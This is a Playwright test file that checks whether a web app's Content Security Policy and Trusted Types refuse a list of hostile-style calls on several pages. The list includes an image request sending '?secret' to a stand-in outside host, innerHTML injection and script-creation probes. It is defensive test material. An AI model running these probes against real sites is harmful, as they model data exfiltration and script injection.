import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'
import { openHydrated } from './openHydrated'

/** Runs the code in the page and returns the directive that refused it. */
async function refusedBy(page: Page, code: string): Promise<string> {
  const refused = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        })
      }),
  )
  // Some refused calls throw.
  await page.evaluate(code).catch(() => {})
  return refused
}

const REFUSED = [
  ['connect-src', "fetch('/jobs')"],
  ['connect-src', "navigator.sendBeacon('/', 'x')"],
  ['img-src', "new Image().src = 'https://elsewhere.example/?secret'"],
  ['require-trusted-types-for', "document.body.innerHTML = '<b>taken over</b>'"],
  ['require-trusted-types-for', "document.createElement('script').text = 'alert(1)'"],
  ['require-trusted-types-for', "document.createElement('script').src = '/assets/x.js'"],
  ['trusted-types', "trustedTypes.createPolicy('own', {})"],
  ['form-action', "document.body.appendChild(document.createElement('form')).submit()"],
] as const

test.use({ expectedComplaints: [/Content Security policy|requires 'Trusted|status of 404/i] })

test('no page sends anything, makes markup or script of a text, or creates a policy', async ({
  page,
  baseURL,
}) => {
  for (const address of ['/', '/jobs?search=data', '/jobs/1', '/contact', '/nope']) {
    await openHydrated(page, address)
    for (const [directive, code] of REFUSED)
      expect(await refusedBy(page, code), `${address} ${code}`).toBe(directive)
    expect(page.url()).toBe(`${baseURL}${address}`)
  }
})
